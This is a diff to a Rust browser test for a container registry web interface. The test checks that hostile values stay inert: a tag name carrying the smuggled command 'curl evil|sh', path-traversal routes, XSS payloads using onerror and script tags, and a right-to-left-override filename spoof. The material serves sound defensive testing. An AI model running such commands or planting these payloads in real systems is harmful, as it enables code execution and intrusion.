@@ -160,7 +160,18 @@ fn what_somebody_wrote_into_an_image_stays_text() {
     let shown = browser.text();
     assert!(shown.contains(HOSTILE), "{shown}");
     assert!(shown.contains("a\u{fffd}gpj.exe") && !shown.contains('\u{202e}'), "{shown}");
-    // An address that somebody is sent makes nothing either.
+    // An address that somebody is sent makes nothing either: no command of a manifest that reads as a list of tags.
+    let config = put_blob(&machine, "evil", "application/vnd.oci.empty.v1+json", "{}");
+    let list = json!({
+        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json", "config": config, "layers": [],
+        "tags": [{ "name": "latest; curl evil|sh\n", "digest": digest, "platforms": [] }], "next": null,
+    });
+    put_manifest(&machine, "evil", Some("tags"), &list);
+    for place in ["../../v2/evil/manifests", "x/%2e%2e/../v2/evil/manifests", "team/web:a;b", "team/web@sha256:1"] {
+        browser.go(&format!("http://{HOST}/#/{place}"));
+        browser.reads("No repository, tag or digest is called so.");
+        assert_eq!(browser.run("return document.querySelectorAll('.copy').length"), 0, "{place}");
+    }
     for place in ["%3Cimg src=x onerror=alert(1)%3E", "a:%3Cscript%3Ealert(1)%3C/script%3E", "%", "../../v2/"] {
         browser.go(&format!("http://{HOST}/#/{place}"));
         until("it is shown", || {
